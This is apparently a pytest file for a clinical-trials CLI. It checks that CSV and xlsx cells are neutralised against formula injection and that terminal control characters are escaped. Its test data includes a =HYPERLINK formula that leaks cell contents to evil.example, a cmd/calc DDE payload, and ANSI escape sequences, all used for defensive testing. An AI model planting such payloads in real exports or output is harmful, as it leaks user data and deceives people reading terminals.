"""Output hygiene (issue 20, item 4): spreadsheet cells cannot run as formulas, terminals are
shown control characters instead of obeying them, and an `Error:` line stays one readable line."""

from __future__ import annotations

import csv
import io
import json
import logging
import zipfile

import duckdb
import pytest
from builders import study
from click.testing import CliRunner
from conftest import test_settings
from fakeapi import FakeCtgov

from trialtrends.cli import main
from trialtrends.cli_options import MAX_ERROR_CHARS, one_line
from trialtrends.errors import TrialtrendsError
from trialtrends.extract.raw import list_runs
from trialtrends.load.views import create_views
from trialtrends.output.render import csv_text, json_text, neutralise_formula, printable, text_table
from trialtrends.pipeline import refresh
from trialtrends.terminal import configure_logging

HOSTILE_SPONSOR = '=HYPERLINK("http://evil.example/?q="&A1,"Novartis")'
ESC = "\x1b"


# (cell text, what a CSV or xlsx cell holds): OWASP "CSV Injection" prefixes a single quote.
FORMULA_CASES = [
    ("=1+1", "'=1+1"),
    (HOSTILE_SPONSOR, "'" + HOSTILE_SPONSOR),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5", "-5"),  # a signed number is a number, not a formula
    ("+1.5e3", "+1.5e3"),
    ("-0.25%", "-0.25%"),
    ("Novartis", "Novartis"),
    ("a=b", "a=b"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "expected"), FORMULA_CASES)
def test_neutralise_formula(text, expected):
    assert neutralise_formula(text) == expected


def test_csv_cells_are_neutralised_and_numbers_kept():
    text = csv_text(["sponsor", "n"], [[HOSTILE_SPONSOR, -3], ["-7", 2.5], [None, None]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["sponsor", "n"], ["'" + HOSTILE_SPONSOR, "-3"], ["-7", "2.5"], ["", ""]]


# (raw text, as printed on one table line, as printed where newlines may stay)
PRINTABLE_CASES = [
    (f"{ESC}[31mred{ESC}[0m", "\\x1b[31mred\\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    (f"{ESC}]0;owned\x07", "\\x1b]0;owned\\x07", "\\x1b]0;owned\\x07"),
    ("nul\x00", "nul\\x00", "nul\\x00"),
    ("c1\x9b2J", "c1\\x9b2J", "c1\\x9b2J"),
    ("del\x7f", "del\\x7f", "del\\x7f"),
    ("rtl\u202eevil", "rtl\\u202eevil", "rtl\\u202eevil"),
    ("lone\ud800", "lone\\ud800", "lone\\ud800"),
    ("two\nlines\tx\r", "two\\nlines\\tx\\r", "two\nlines\tx\\r"),
    ("Zürich – ok", "Zürich – ok", "Zürich – ok"),
]


@pytest.mark.parametrize(("raw", "in_line", "multi_line"), PRINTABLE_CASES)
def test_printable(raw, in_line, multi_line):
    assert printable(raw, one_line=True) == in_line
    assert printable(raw) == multi_line


def test_text_table_and_json_never_carry_raw_controls():
    table = text_table([f"col{ESC}[1m"], [[f"{ESC}[2Jx"], ["a\nb"]])
    assert ESC not in table and "\\x1b[2Jx" in table and "a\\nb" in table
    text = json_text([{"v": f"{ESC}[2J\x9b\u202e\ud800"}])
    assert ESC not in text and "\x9b" not in text and "\u202e" not in text
    assert json.loads(text) == [{"v": f"{ESC}[2J\x9b\u202e\ud800"}]  # the same JSON value


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """A warehouse with a formula as lead sponsor, then poisoned as one published before text
    hygiene existed could be (ESC sequences in a title and a sponsor), and a failed run whose
    manifest error carries an escape sequence."""
    root = tmp_path_factory.mktemp("hygiene-out")
    records = [
        study(f"NCT9000{i:04d}", title=f"CD19 CAR-T cells {i}", lead=HOSTILE_SPONSOR, posted="2023-03-01")
        for i in range(1, 4)
    ]
    with FakeCtgov(records) as fake:
        settings = test_settings(root, fake.url)
        refresh(settings)
    with duckdb.connect(str(settings.warehouse_path)) as con:
        con.execute(
            f"update trials set brief_title = '{ESC}[2J{ESC}]0;pwned\x07title' where nct_id = 'NCT90000001'"
        )
        con.execute(f"update trial_sponsors set sponsor = sponsor || '{ESC}[0m'")
        create_views(con)  # as a publish does: the report's tables follow the rows
    manifest_path = list_runs(settings.raw_dir)[-1].path / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest.update(status="failed", error=f"gate data_quality failed: {ESC}[31mAtlantis{ESC}[0m")
    manifest_path.write_text(json.dumps(manifest))
    return settings


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def test_sql_terminal_output_escapes_controls(published):
    d = ["--data-dir", published.data_dir]
    for fmt in ("table", "csv", "json"):
        result = invoke("sql", *d, "--format", fmt, "select brief_title from trials order by nct_id")
        assert result.exit_code == 0, result.output
        assert ESC not in result.output and "\x07" not in result.output
        assert "\\x1b[2J" in result.output or "\\u001b[2J" in result.output
    result = invoke("sql", *d, "select chr(27) || '[2J' as x, chr(155) as c1")
    assert ESC not in result.output and "\x9b" not in result.output


def test_sql_csv_neutralises_formulas(published):
    result = invoke(
        "sql", "--data-dir", published.data_dir, "--format", "csv",
        "select distinct lead_sponsor_raw, -1 as n, '-2' as s from trials",
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[1] == ["'" + HOSTILE_SPONSOR, "-1", "-2"]


def test_report_csv_xlsx_and_text_are_safe(published, tmp_path):
    d = ["--data-dir", published.data_dir, "--year", "2023", "--modality", "CAR-T"]
    text = invoke("report", *d).output
    assert ESC not in text and "\\x1b[0m" in text
    rows = list(csv.DictReader(io.StringIO(invoke("report", *d, "--format", "csv").output)))
    sponsors = [r["item"] for r in rows if r["section"] == "sponsor"]
    assert sponsors and all(s.startswith("'") for s in sponsors)
    result = invoke("report", *d, "--format", "xlsx", "--out", tmp_path)
    assert result.exit_code == 0, result.output
    book = next(tmp_path.glob("*.xlsx"))
    with zipfile.ZipFile(book) as zf:
        strings = zf.read("xl/sharedStrings.xml").decode()
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
    assert ">=HYPERLINK" not in strings


def test_runs_escapes_controls(published):
    result = invoke("runs", "--data-dir", published.data_dir)
    assert result.exit_code == 0, result.output
    assert ESC not in result.output and "\\x1b[31mAtlantis" in result.output


def test_log_lines_escape_controls(restore_logging, capsys):
    configure_logging(logging.INFO)
    logging.getLogger("trialtrends.test").warning("unmapped: %s", f"{ESC}[31mAtlantis\x07")
    err = capsys.readouterr().err
    assert ESC not in err and "\\x1b[31mAtlantis\\x07" in err


# (message, what the Error: line must and must not show)
ERROR_CASES = [
    ("Could not reach https://clinicaltrials.gov/api/v2/studies?" + "x" * 1000 + " after 6 tries.", 200),
    ("plain " * 300, MAX_ERROR_CHARS),
    (f"bad {ESC}[2J thing\nsecond line", 40),
]


@pytest.mark.parametrize(("message", "longest"), ERROR_CASES)
def test_error_lines_are_short_single_and_printable(message, longest):
    line = one_line(message)
    assert len(line) <= longest and "\n" not in line and ESC not in line
    if len(" ".join(message.split())) > len(line):
        assert "…" in line
    assert line.endswith(" ".join(message.split())[-12:])  # the end (a hint) is kept


def test_capped_error_keeps_its_hint():
    line = one_line("x " * 1000 + "; check the network, or use --api-url for a mirror.")
    assert len(line) == MAX_ERROR_CHARS and line.endswith("use --api-url for a mirror.")


def test_cli_error_line_is_capped(tmp_path, monkeypatch):
    """Issue 20: an `Error:` line could be 1,000 characters (a whole URL)."""
    monkeypatch.setenv("TRIALTRENDS_MAX_RETRIES", "0")
    monkeypatch.setenv("TRIALTRENDS_CONNECT_TIMEOUT", "1")
    with socket_closed() as port:
        url = f"http://127.0.0.1:{port}/api/v2/" + "p" * 900
        result = invoke("refresh", "--data-dir", tmp_path / "data", "--api-url", url)
    assert result.exit_code == 1
    line = [x for x in result.output.splitlines() if x.startswith("Error:")][-1]
    assert len(line) <= MAX_ERROR_CHARS + len("Error: ") and "…" in line


class socket_closed:
    """A local port nobody listens on."""

    def __enter__(self) -> int:
        import socket

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        return self.sock.getsockname()[1]

    def __exit__(self, *exc) -> None:
        self.sock.close()


def test_error_text_from_the_library_is_printable():
    class Odd(TrialtrendsError):
        pass

    assert one_line(str(Odd(f"x{ESC}[31m"))) == "x\\x1b[31m"
